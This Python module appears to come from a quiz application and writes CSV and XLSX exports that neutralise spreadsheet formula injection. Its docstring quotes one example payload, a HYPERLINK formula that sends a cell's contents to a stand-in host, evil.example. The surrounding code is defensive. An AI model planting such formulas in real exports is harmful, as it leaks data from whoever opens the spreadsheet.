"""CSV and XLSX writers that never hand a spreadsheet a formula.

**Formula injection.** A name such as ``=HYPERLINK("http://evil.example?x="&A1, "Click")``
typed by a student would run when a teacher opens the export in Excel or LibreOffice. Every
*text* cell that starts with a character a spreadsheet reads as the start of a formula
(``=``, ``+``, ``-``, ``@``, a tab, a carriage return, and their full-width forms, which
some Excel versions accept too) gets a leading apostrophe, as OWASP recommends: the
spreadsheet then shows it as text. Numbers, dates and booleans are written as what they are
(``-3`` is a number, not a formula), and in XLSX text is always written as a string cell
(xlsxwriter would otherwise turn a string starting with ``=`` into a formula) with
formula and URL conversion switched off for the whole workbook.

**CSV** is UTF-8 with a byte-order mark (without it Excel reads UTF-8 as the local code
page and mangles non-Latin names), comma-separated, CRLF line ends, generated in chunks.
**XLSX** is built by xlsxwriter in memory (``in_memory``: no temporary files; a
10,000-row workbook is a few megabytes).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal
from typing import Any

import xlsxwriter
from xlsxwriter.workbook import Workbook
from xlsxwriter.worksheet import Worksheet

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BOM = "\ufeff"
#: Rows per chunk of a streamed CSV.
CSV_CHUNK_ROWS = 1000
#: Widest column an XLSX sheet gets automatically (characters).
MAX_COLUMN_WIDTH = 60

WORKBOOK_OPTIONS = {
    "in_memory": True,
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
}


def neutralise(text: str) -> str:
    """``text`` made safe to open in a spreadsheet (see the module documentation)."""
    if text and text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def csv_value(value: Any) -> str:
    """One CSV cell: text neutralised, numbers as written, dates ISO (UTC), booleans
    ``yes``/``no``, nothing as an empty cell."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, int | float | Decimal):
        return str(value)
    if isinstance(value, dt.datetime):
        return value.strftime("%Y-%m-%d %H:%M:%S")
    if isinstance(value, dt.date):
        return value.isoformat()
    return neutralise(str(value))


def csv_chunks(header: Sequence[str], rows: Iterable[Sequence[Any]],
               chunk_rows: int = CSV_CHUNK_ROWS) -> Iterator[bytes]:
    """The CSV document in UTF-8 chunks of ``chunk_rows`` rows (the first starts with the
    byte-order mark and the header)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    buffer.write(BOM)
    writer.writerow([csv_value(name) for name in header])
    pending = 0
    for row in rows:
        writer.writerow([csv_value(value) for value in row])
        pending += 1
        if pending == chunk_rows:
            yield buffer.getvalue().encode("utf-8")
            buffer.seek(0)
            buffer.truncate()
            pending = 0
    if buffer.tell():
        yield buffer.getvalue().encode("utf-8")


def csv_bytes(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> bytes:
    """The whole CSV document at once (tests, small files)."""
    return b"".join(csv_chunks(header, rows))


# -- XLSX ----------------------------------------------------------------------------------------


class Sheet:
    """A worksheet with the workbook's shared formats and typed, neutralised writes."""

    def __init__(self, book: XlsxBook, worksheet: Worksheet):
        self.book = book
        self.worksheet = worksheet
        self.widths: dict[int, float] = {}

    def write(self, row: int, col: int, value: Any, cell_format=None) -> None:
        sheet, formats = self.worksheet, self.book.formats
        if value is None:
            sheet.write_blank(row, col, None, cell_format)
            return
        if isinstance(value, bool):
            sheet.write_string(row, col, "yes" if value else "no", cell_format)
            width = 3
        elif isinstance(value, int | float | Decimal):
            sheet.write_number(row, col, float(value), cell_format)
            width = len(f"{value}")
        elif isinstance(value, dt.datetime):
            sheet.write_datetime(row, col, value, cell_format or formats["datetime"])
            width = 16
        elif isinstance(value, dt.date):
            sheet.write_datetime(row, col, dt.datetime.combine(value, dt.time()),
                                 cell_format or formats["date"])
            width = 10
        else:
            text = neutralise(str(value))
            sheet.write_string(row, col, text, cell_format)
            width = min(len(text), MAX_COLUMN_WIDTH)
        if width > self.widths.get(col, 0):
            self.widths[col] = width

    def write_row(self, row: int, values: Sequence[Any], cell_format=None,
                  first_col: int = 0) -> None:
        for offset, value in enumerate(values):
            self.write(row, first_col + offset, value, cell_format)

    def facts(self, pairs: Sequence[tuple[str, Any]], first_row: int = 2) -> int:
        """Labels (bold) in the first column, their values in the second, from
        ``first_row`` down; returns the row after the last one written."""
        for row, (label, value) in enumerate(pairs, start=first_row):
            self.write(row, 0, label, self.book.formats["bold"])
            self.write(row, 1, value)
        return first_row + len(pairs)

    def table(self, header: Sequence[str], rows: Iterable[Sequence[Any]], first_row: int = 0,
              first_col: int = 0, freeze: bool = False, autofilter: bool = False) -> int:
        """Write a header (bold) and rows; returns the index of the last row written."""
        self.write_row(first_row, header, self.book.formats["header"], first_col)
        last = first_row
        for last, values in enumerate(rows, start=first_row + 1):
            self.write_row(last, values, first_col=first_col)
        if freeze:
            self.worksheet.freeze_panes(first_row + 1, 0)
        if autofilter and header:
            self.worksheet.autofilter(first_row, first_col, max(last, first_row),
                                      first_col + len(header) - 1)
        return last

    def fit_columns(self, minimum: int = 8) -> None:
        """Column widths from the longest value written (bounded)."""
        for col, width in self.widths.items():
            self.worksheet.set_column(col, col, max(minimum, width + 2))


class XlsxBook:
    """An in-memory xlsxwriter workbook with the formats every quizcore export uses.

    ::

        book = XlsxBook()
        sheet = book.sheet("Results")
        sheet.table(header, rows, freeze=True, autofilter=True)
        data = book.close()
    """

    def __init__(self):
        self.buffer = io.BytesIO()
        self.workbook: Workbook = xlsxwriter.Workbook(self.buffer, WORKBOOK_OPTIONS)
        add = self.workbook.add_format
        self.formats = {
            "header": add({"bold": True, "bg_color": "#DCE6F1", "border": 1,
                           "text_wrap": True, "valign": "top"}),
            "title": add({"bold": True, "font_size": 14}),
            "bold": add({"bold": True}),
            "datetime": add({"num_format": "yyyy-mm-dd hh:mm"}),
            "date": add({"num_format": "yyyy-mm-dd"}),
            "wrap": add({"text_wrap": True, "valign": "top"}),
        }
        self.sheets: list[Sheet] = []

    def sheet(self, name: str) -> Sheet:
        sheet = Sheet(self, self.workbook.add_worksheet(name))
        self.sheets.append(sheet)
        return sheet

    def chart(self, kind: str, *, title: str, sheet: Sheet, categories: tuple[int, int, int],
              values: tuple[int, int, int], series_name: str, x_title: str | None = None,
              y_title: str | None = None, y_max: float | None = None, color: str = "#4F81BD"):
        """A native bar/column chart of one series. ``categories`` and ``values`` are
        ``(column, first_row, last_row)`` on ``sheet``."""
        chart = self.workbook.add_chart({"type": kind})
        name = sheet.worksheet.get_name()
        col, first, last = categories
        vcol, vfirst, vlast = values
        chart.add_series({
            "name": series_name,
            "categories": [name, first, col, last, col],
            "values": [name, vfirst, vcol, vlast, vcol],
            "fill": {"color": color},
            "gap": 50,
        })
        chart.set_title({"name": title})
        chart.set_legend({"none": True})
        value_axis = {"name": y_title, "min": 0}
        if y_max is not None:
            value_axis["max"] = y_max
        category_axis = {"name": x_title}
        if kind == "bar":  # horizontal bars: the value axis is x
            chart.set_x_axis(value_axis)
            chart.set_y_axis({**category_axis, "reverse": True})
        else:
            chart.set_x_axis(category_axis)
            chart.set_y_axis(value_axis)
        return chart

    def close(self) -> bytes:
        for sheet in self.sheets:
            sheet.fit_columns()
        self.workbook.close()
        return self.buffer.getvalue()
